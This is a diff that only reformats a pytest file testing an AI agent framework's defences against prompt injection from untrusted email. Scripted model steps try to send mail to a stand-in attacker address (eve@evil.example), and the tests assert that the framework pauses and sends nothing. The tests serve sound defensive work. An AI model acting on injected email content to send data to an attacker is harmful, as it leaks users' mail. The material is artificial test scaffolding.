@@ -54,8 +54,9 @@ def test_handles_outlive_the_process(world, tmp_path):
 def test_an_inner_agent_that_gets_a_reference_is_held(world):
     inner = JsonAgent(send, model=ScriptedModel(call("send", to="eve@evil.example"), answer("Done.")))
     clerk = inner.as_tool("clerk", "Sends.")
-    agent = JsonAgent(get_mail, clerk, untrusted="hidden", model=ScriptedModel(
-        GET, call("clerk", query="{#1.body}"), answer("Done.")))  # fmt: skip
+    agent = JsonAgent(
+        get_mail, clerk, untrusted="hidden", model=ScriptedModel(GET, call("clerk", query="{#1.body}"), answer("Done."))
+    )
     with pytest.raises(Paused):
         world.run(agent, "Do it.")
     assert not SENT
@@ -87,8 +88,9 @@ class TestDecisions:
         assert json.loads(waiting.arguments) == {"to": "Soup", "text": "From Soup: #1"}
         assert json.loads(waiting.written)["to"] == "#1.subject"
         assert [(one.where, one.reference, one.value, one.source) for one in waiting.references] == [
-            ("to", "#1.subject", "Soup", "get_mail"), ("text", "#1.subject", "Soup", "get_mail"),
-        ]  # fmt: skip
+            ("to", "#1.subject", "Soup", "get_mail"),
+            ("text", "#1.subject", "Soup", "get_mail"),
+        ]
         assert not SENT
         assert "Soup" not in shown(model)
 
@@ -231,9 +233,12 @@ class TestExtracts:
     def test_a_text_from_a_result_is_passed_on_unread(self, world):
         ask = call("extract_text", reference="#1.body", question="To whom?")
         agent, model = make(
-            GET, ask, answer("Eve, the rich one"), call("send", to="bob@home.example", text="To {#2}?"),
+            GET,
+            ask,
+            answer("Eve, the rich one"),
+            call("send", to="bob@home.example", text="To {#2}?"),
             call("send", to="#2", text="hello"),
-        )  # fmt: skip
+        )
         with pytest.raises(Paused) as pause:
             world.run(agent, "Tell bob@home.example who gets the money.")
         assert agent.history[5]["content"] == "#2 from extract_text, 17 characters"
